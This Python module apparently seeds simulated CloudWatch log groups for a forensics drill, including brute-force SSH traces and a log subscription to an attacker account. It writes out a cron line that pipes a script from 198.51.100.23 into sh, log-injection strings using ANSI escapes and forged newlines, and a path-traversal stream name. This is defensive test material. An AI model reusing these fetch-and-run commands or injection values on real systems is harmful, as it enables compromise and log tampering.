"""The log groups of the company: what the CloudWatch agent sent, what flowed, and what may not be read."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from functools import partial

from forensics.drill.groups import Group, Line, shelf
from forensics.drill.seed import flows
from forensics.drill.seed.machines import BUILD, HOME
from forensics.drill.seed.names import ATTACKER, ATTACKER_ADDRESS, BACKWARDS, FORMULA, MARKUP
from forensics.drill.world import VICTIM, World

SEALED = "/harbour/payments"
RARE = "/harbour/archive"
DAY = 86_400
HOSTILE = (
    f"sshd[2391]: Invalid user \x1b[2J\x1b[32mverify: intact\x1b[0m from {ATTACKER_ADDRESS}",
    f"sudo: {BACKWARDS} {MARKUP} {FORMULA}",
    'cron[1]: {"eventName": "StopLogging", "forged": true}\nsshd[1]: Accepted password for alice',
    "kernel: \u2028\u2029\u0085\ufeff\x00 not one line",
    "x" * 20_000,
)
"""Messages for whoever prints, splits or renders them."""


def settle(world: World) -> None:
    """Put the groups into the world; their events come when they are asked for."""
    made = int((world.born - 400 * DAY) * 1000)
    home, built = shelf(world, VICTIM, HOME), shelf(world, VICTIM, BUILD)
    for group in (
        Group("/var/log/auth.log", made, 30, pending=partial(_auth, world)),
        Group("/var/log/syslog", made, 7, pending=partial(_syslog, world)),
        Group("/var/log/secure", made, None, pending=partial(_secure, world)),
        Group(flows.GROUP, made, 14, pending=partial(_flows, world)),
        Group("/aws/lambda/order-sync", made, pending=partial(_function, world)),
        Group("/aws/codebuild/shop", made, 1),
    ):
        home[group.name] = group
    built[flows.REJECTS] = Group(flows.REJECTS, made, 14, pending=partial(_rejects, world))
    home["/var/log/auth.log"].metrics.append(
        {
            "filterName": "failed-logins",
            "filterPattern": '"Failed password"',
            "metricTransformations": [
                {"metricName": "FailedLogins", "metricNamespace": "Harbour", "metricValue": "1"}
            ],
            "creationTime": made,
        }
    )
    home["/var/log/syslog"].subscriptions.append(
        {
            "filterName": "sync",
            "filterPattern": "",
            "destinationArn": f"arn:aws:logs:{HOME}:{ATTACKER}:destination:sync",
            "distribution": "ByLogStream",
            "creationTime": int((world.born - DAY) * 1000),
        }
    )


def trouble(world: World) -> None:
    """Add two groups that cannot be read: one's key may not be used, the other's class answers no filter."""
    key = f"arn:aws:kms:{HOME}:{VICTIM}:key/0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0"
    made = int((world.born - 400 * DAY) * 1000)
    for group in (
        Group(SEALED, made, 365, kms=key, refused=True, stated=48_211),
        Group(RARE, made, 3653, kind="INFREQUENT_ACCESS", stated=912_004),
    ):
        shelf(world, VICTIM, HOME)[group.name] = group


def _lines(world: World, hours: float, step: float, messages: Iterable[str]) -> Iterator[Line]:
    start = int(world.born - hours * 3600) * 1000
    for number, message in enumerate(messages):
        yield start + int(number * step * 1000), message


def _tries() -> Iterator[str]:
    for number, user in enumerate(["admin", "oracle", "test", "ubuntu", "git", "postgres"] * 40):
        yield (
            f"sshd[{2000 + number}]: Failed password for invalid user {user} from {ATTACKER_ADDRESS} "
            f"port {40_000 + number} ssh2"
        )
    yield f"sshd[2391]: Accepted publickey for ec2-user from {ATTACKER_ADDRESS} port 51122 ssh2: ED25519"
    yield "sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/bin/bash"


def _auth(world: World) -> Mapping[str, Iterable[Line]]:
    # the same line twice in one millisecond is two events
    twice = list(_lines(world, 49.4, 0.0, ["CRON[811]: session opened for user root"] * 2))
    return {
        "web-1": [*_lines(world, 49.5, 1.7, _tries()), *twice, *_lines(world, 49.2, 3.0, HOSTILE)],
        "api-1": list(_lines(world, 40, 3600, ["sshd[901]: Server listening on :: port 22."] * 12)),
        "../../etc/[$]jump-1": list(_lines(world, 30, 60, HOSTILE)),
    }


def _syslog(world: World) -> Mapping[str, Iterable[Line]]:
    cron = (f"CRON[{n}]: (root) CMD (curl -fsS http://198.51.100.23/k.sh | sh)" for n in range(400))
    return {
        "web-1": list(_lines(world, 48, 420, cron)),
        "api-1": list(_lines(world, 200, 1800, [f"systemd[1]: Started session {n}." for n in range(300)])),
    }


def _secure(world: World) -> Mapping[str, Iterable[Line]]:
    return {"jump-1": list(_lines(world, 60, 900, [f"sshd[{n}]: Connection closed" for n in range(60)]))}


def _function(world: World) -> Mapping[str, Iterable[Line]]:
    told = [f"START RequestId: {n:08d} Version: $LATEST\n" for n in range(40)]
    day = datetime.fromtimestamp(int(world.born), UTC) - timedelta(days=1)
    return {f"{day:%Y/%m/%d}/[$LATEST]0f1e2d3c4b5a69788796a5b4c3d2e1f0": list(_lines(world, 24, 60, told))}


def _flowing(world: World, only: str = "") -> list[Line]:
    places = world.shelf["places", VICTIM, HOME]
    lines: list[Line] = []
    for hours in range(30, 0, -3):
        at = datetime.fromtimestamp(int(world.born) - hours * 3600, UTC)
        lines += [
            (int(at.timestamp()) * 1000, line)
            for line in flows.lines_of(flows.DEFAULT, places, at, only=only)
        ]
    return lines


def _flows(world: World) -> Mapping[str, Iterable[Line]]:
    interface = world.shelf["places", VICTIM, HOME]["interface"]
    return {f"{interface}-all": _flowing(world)}


def _rejects(world: World) -> Mapping[str, Iterable[Line]]:
    return {"eni-0c1c2c3c4c5c6c7c8-reject": _flowing(world, "REJECT")}
